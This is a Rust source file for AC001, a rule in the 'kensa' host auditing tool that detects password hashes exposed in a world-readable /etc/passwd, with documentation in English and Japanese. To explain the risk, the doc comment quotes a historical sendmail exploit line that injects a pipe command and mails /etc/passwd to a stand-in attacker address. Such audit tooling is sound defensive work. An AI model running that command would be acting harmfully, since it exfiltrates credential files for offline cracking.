//! # AC001 hashes-in-passwd
//!
//! ## What it finds
//! Password hashes in `/etc/passwd`, the file every user and every program can read —
//! the host does not use shadow passwords, or `pwconv` left accounts behind. One finding
//! per file, listing the accounts whose usable hash is there (locked accounts whose hash
//! is kept behind `!` or `*LK*` count too: unlocking restores it).
//!
//! ## Why it matters
//! Whoever reads `/etc/passwd` can crack the hashes offline at leisure. That is exactly
//! what the advisory's sendmail attack did: `from=|/bin/mail evil@example < /etc/passwd`
//! mailed the file out, and a dictionary run on a workstation found the weak passwords
//! within hours. Anonymous FTP areas holding a copy of the file leak it the same way.
//!
//! ## Example
//! ```text
//! etc/passwd:1: root:<DES hash>:0:1:Operator:/:/bin/csh
//! ```
//! (kensa never prints the hash itself.)
//!
//! ## What to do
//! (4) Move to shadow passwords (`pwconv` on System V and Linux, the `master.passwd`
//! scheme on BSD, C2 security on SunOS 4) so that only root can read the hashes, then
//! (3) change every password that was in the file: assume it has been copied.
//!
//! ## References
//! - JPCERT/CC JPCERT-E-INF-97-0001-01, countermeasures (3) and (4)
//! - CERT Advisory CA-95:05 (sendmail), CA-93:10 (anonymous FTP)
//! <!-- ja -->
//! # AC001 hashes-in-passwd
//!
//! ## 検出内容
//! すべての利用者とすべてのプログラムが読める `/etc/passwd` の中にあるパスワードのハッシュを
//! 検出します。ホストがシャドーパスワードを使っていないか、`pwconv` が一部のアカウントを
//! 取り残した状態です。ファイルごとに一つの検出とし、使えるハッシュがそこにあるアカウントを
//! 列挙します（ハッシュを `!` や `*LK*` の後ろに残してロックしたアカウントも数えます。
//! ロックを解除すればハッシュが戻るからです）。
//!
//! ## 重要な理由
//! `/etc/passwd` を読める者は、ハッシュを手元でゆっくり解読できます。アドバイザリの sendmail
//! への攻撃がしたのはまさにこれで、`from=|/bin/mail evil@example < /etc/passwd` でファイルを
//! 外部に送り出し、ワークステーションで辞書攻撃を行って、弱いパスワードを数時間で見つけました。
//! このファイルの写しを置いた Anonymous FTP の領域も、同じように漏洩の元になります。
//!
//! ## 例
//! ```text
//! etc/passwd:1: root:<DES hash>:0:1:Operator:/:/bin/csh
//! ```
//! （kensa はハッシュそのものは決して表示しません。）
//!
//! ## 対処
//! (4) シャドーパスワードに移行し（System V と Linux では `pwconv`、BSD では `master.passwd`
//! の仕組み、SunOS 4 では C2 セキュリティ）、ハッシュを root だけが読めるようにしてください。
//! その後、(3) ファイルにあったすべてのパスワードを変更してください: ファイルは複製された
//! ものと考えてください。
//!
//! ## 参考
//! - JPCERT/CC JPCERT-E-INF-97-0001-01、対策 (3) と (4)
//! - CERT Advisory CA-95:05（sendmail）、CA-93:10（Anonymous FTP）

use super::hash::{PasswordField, classify};
use super::{MAX_EVIDENCE, passwd_evidence};
use crate::Context;
use kensa_core::{Finding, Kind, Outcome, Rule, RuleStatus, Severity, tr};

/// AC001: usable password hashes in the world-readable `/etc/passwd`.
pub static RULE: Rule = Rule {
    code: "AC001",
    name: "hashes-in-passwd",
    kind: Kind::AccountWeakness,
    outcome: Outcome::Exposure,
    severity: Severity::High,
    title: "Password hashes in the world-readable /etc/passwd (no shadow passwords)",
    advice: "(4) Use shadow passwords (pwconv; master.passwd on BSD) so only root can read \
             the hashes, then (3) change every password that was in the file: assume it \
             has been copied.",
    status: RuleStatus::Stable,
    title_ja: "誰でも読める /etc/passwd にパスワードのハッシュがある（シャドーパスワード未使\
             用）",
    advice_ja: "(4) シャドーパスワードを利用し（pwconv。BSD では master.passwd）、ハッシュを \
             root だけが読めるようにしてください。その後、(3) ファイルにあったすべてのパスワー\
             ドを変更してください: ファイルは複製されたものと考えてください。",
    since: "0.1.0",
    source: include_str!("ac001_hashes_in_passwd.rs"),
};

/// Runs AC001.
pub fn check(ctx: &mut Context<'_>) -> Vec<Finding> {
    let passwd = ctx.passwd();
    // master.passwd is BSD's shadow file, readable by root only: hashes belong there.
    let exposed: Vec<_> = passwd
        .iter()
        .filter(|e| !e.nis && e.file == "etc/passwd")
        .filter(|e| {
            matches!(
                classify(&e.password),
                PasswordField::Hash(_) | PasswordField::Locked { hash: Some(_) }
            )
        })
        .collect();
    if exposed.is_empty() {
        return Vec::new();
    }
    let mut finding = ctx.finding(&RULE);
    finding.subject.path = Some("etc/passwd".to_string());
    finding.subject.users = exposed
        .iter()
        .take(MAX_EVIDENCE)
        .map(|e| e.name.clone())
        .collect();
    finding.count = exposed.len() as u64;
    let count = exposed.len();
    let es = if count == 1 { "" } else { "es" };
    finding.set_title(tr!(
        "{count} password hash{es} in the world-readable /etc/passwd (no shadow passwords)",
        "誰でも読める /etc/passwd にパスワードのハッシュが {count} 件ある（シャドーパスワード\
         未使用）"
    ));
    // A passwd that others cannot read is odd but not exposed to every local user.
    if ctx
        .root
        .stat("etc/passwd")
        .is_ok_and(|meta| !meta.other_readable())
    {
        finding.severity = Severity::Medium;
        finding.set_title(tr!(
            "{count} password hash(es) in /etc/passwd (not world-readable here, but \
             programs expect it to be)",
            "/etc/passwd にパスワードのハッシュが {count} 件ある（このホストでは誰でも読める\
             わけではないが、プログラムは誰でも読めることを前提にしている）"
        ));
    }
    for entry in exposed.iter().take(MAX_EVIDENCE) {
        finding.push_evidence(passwd_evidence(entry));
    }
    finding.merge_key = "etc/passwd".to_string();
    vec![finding]
}
